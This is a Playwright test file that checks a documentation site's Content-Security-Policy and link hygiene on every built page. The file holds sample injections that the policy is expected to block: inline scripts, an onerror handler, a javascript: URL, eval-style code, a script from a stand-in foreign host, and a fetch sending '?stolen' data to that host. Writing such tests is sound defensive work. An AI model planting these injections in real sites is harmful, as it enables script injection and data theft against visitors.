/**
 * Each page has a Content-Security-Policy, and keeps it: the guard of all tests notes what a browser says of a violation.
 * Here the policy is shown to be there, and to hold off what it is for.
 */
import {readFileSync} from 'node:fs';
import {join} from 'node:path';

import type {Page} from '@playwright/test';
import {parse} from 'parse5';

import {filesBelow} from '../../tools/serve/pages';
import {elementsOf} from '../support/build';
import {buildDir} from '../support/paths';
import {atRest, expect, test, visit} from '../support/test';

const formulas = '/docs/tutorial/about_gem5/WhyGem5';

/** The policy in a page's HTML, and what stands before it; undefined if it has none. */
function policyIn(html: string): {readonly policy: string; readonly before: string} | undefined {
  const found = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
  return found?.[1] === undefined ? undefined : {policy: found[1], before: html.slice(0, found.index)};
}

test('every page of the build has a policy, before any script or style of it', () => {
  const pages = [...filesBelow(buildDir)].filter((file) => file.endsWith('.html'));
  expect(pages.length).toBeGreaterThan(100);
  for (const file of pages) {
    const {policy, before} = policyIn(readFileSync(join(buildDir, file), 'utf8')) ?? {policy: '', before: ''};
    expect(before, file).toMatch(/<meta charset=[^>]*>$/i);
    expect(before, file).not.toMatch(/<(?:script|style|link)/i);
    for (const part of ["default-src 'none'", "object-src 'none'", "base-uri 'none'", "connect-src 'self'"])
      expect(policy.split('; '), file).toContain(part);
    expect(/script-src ([^;]*)/.exec(policy)?.[1], file).toMatch(/^'self'(?: 'sha256-[\w+/]{43}=')*$/);
  }
});

/** What a page's markup lets others do, in sentences; empty if all is well. */
function lapses(html: string): string[] {
  const found: string[] = [];
  let referrer = '';
  for (const {tagName, attrs} of elementsOf(parse(html, {scriptingEnabled: false}))) {
    const attributes = Object.fromEntries(attrs.map(({name, value}) => [name, value]));
    const {name, content = '', rel = '', href = '', src = '', target, integrity, crossorigin} = attributes;
    if (tagName === 'meta' && name === 'referrer') referrer = content;
    for (const handler of Object.keys(attributes).filter((one) => one.startsWith('on')))
      found.push(`<${tagName}> has the handler ${handler}`);
    if (target === '_blank' && !/\bnoopener\b/.test(rel))
      found.push(`${href} can reach back into the page: no noopener`);
    const loaded = tagName === 'link' && /\b(?:stylesheet|preload|icon|manifest)\b/.test(rel) ? href : src;
    const isForeign = /^(?:https?:)?\/\//.test(loaded);
    if (isForeign && (!/^sha(?:256|384|512)-/.test(integrity ?? '') || crossorigin === undefined))
      found.push(`${loaded} may send another file: no integrity`);
  }
  if (!/^(?:no-referrer|same-origin|strict-origin|no-referrer-when-downgrade)/.test(referrer))
    found.push(`other origins are told more than they need: referrer is "${referrer}"`);
  return found;
}

test('no page lets another site reach back into it, loads a file without a hash, or tells more than its origin', () => {
  const pages = [...filesBelow(buildDir)].filter((file) => file.endsWith('.html'));
  let foreign = 0;
  for (const file of pages) {
    const html = readFileSync(join(buildDir, file), 'utf8');
    expect(lapses(html), file).toEqual([]);
    foreign += html.includes('target="_blank"') || html.includes('target=_blank') ? 1 : 0;
  }
  expect(foreign).toBeGreaterThan(50);
  expect(
    lapses(
      '<meta name=referrer content=unsafe-url><a href=https://a.example target=_blank>a</a><script src=//b.example/b.js></script>' +
        '<link rel=stylesheet href=https://c.example/c.css integrity=md5-1><img src=https://d.example/d.png onerror=d()>',
    ).map((line) => line.split(' ')[0]),
  ).toEqual([
    'https://a.example',
    '//b.example/b.js',
    'https://c.example/c.css',
    '<img>',
    'https://d.example/d.png',
    'other',
  ]);
});

/** What the page's policy holds off of something that a page does, as the browser tells it. */
async function violations(page: Page, act: () => void | Promise<void>): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, {violations: seen});
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => {
      seen.push(effectiveDirective);
    });
  });
  await page.evaluate(act);
  await atRest(page);
  return page.evaluate(() => (window as unknown as {violations: string[]}).violations);
}

const injections: readonly {
  readonly name: string;
  readonly directive: string;
  readonly act: () => void | Promise<void>;
}[] = [
  {
    name: 'a script in an element',
    directive: 'script-src-elem',
    act: () => {
      const script = document.createElement('script');
      script.textContent = 'window.harmed = true';
      document.body.append(script);
    },
  },
  {
    name: 'a handler in an attribute',
    directive: 'script-src-attr',
    act: () => {
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.harmed = true">';
      document.body.append(holder);
    },
  },
  {
    name: 'an address that is a script',
    directive: 'script-src-elem',
    act: () => {
      const link = document.createElement('a');
      link.setAttribute('href', 'javascript:window.harmed = true');
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'evaluated text',
    directive: 'script-src',
    act: () =>
      // What a test evaluates may evaluate; what the page does by itself may not.
      new Promise((done) => {
        setTimeout(() => {
          done();
          // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- it is to be held off
          new Function('window.harmed = true')();
        });
      }),
  },
  {
    name: 'a script of another origin',
    directive: 'script-src-elem',
    act: () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/harm.js';
      document.body.append(script);
    },
  },
  {
    name: 'a request to another origin',
    directive: 'connect-src',
    act: () =>
      fetch('https://elsewhere.example/?stolen').then(
        () => undefined,
        () => undefined,
      ),
  },
  {
    name: 'another base for addresses',
    directive: 'base-uri',
    act: () => {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
    },
  },
];

for (const {name, directive, act} of injections) {
  test(`holds off ${name}`, async ({page, at, trouble}) => {
    trouble.allow(/Content Security Policy/, /failed: csp/, /asked a foreign host/);
    await visit(page, at(formulas));
    expect(await violations(page, act)).toEqual([directive]);
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
  });
}
